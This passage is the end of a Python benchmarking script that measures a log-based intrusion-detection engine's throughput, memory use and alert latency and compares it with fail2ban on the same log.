    report["engine_without_detectors"] = throughput(log, made["attackers"], with_detectors=False)
    show("parse + inspection + buckets (no detectors)", report["engine_without_detectors"])
    if not args.skip_memory:
        report["memory"] = memory(out, args.addresses)
        show(
            f"memory, {args.addresses:,} distinct addresses through the bucket rules",
            report["memory"],
        )
    if not args.skip_latency:
        report["latency"] = latency(
            rate=args.rate, seconds=args.seconds, persist=not args.skip_persist
        )
        show("event -> alert latency (EventQueue, thread mode)", report["latency"])
    if not args.skip_fail2ban:
        report["fail2ban"] = fail2ban(log, out, made["attackers"])
        show("fail2ban on the same log", report["fail2ban"])
    report["load_at_end"] = _load()
    if args.json:
        print(json.dumps(report, ensure_ascii=False, indent=1))


if __name__ == "__main__":
    main()
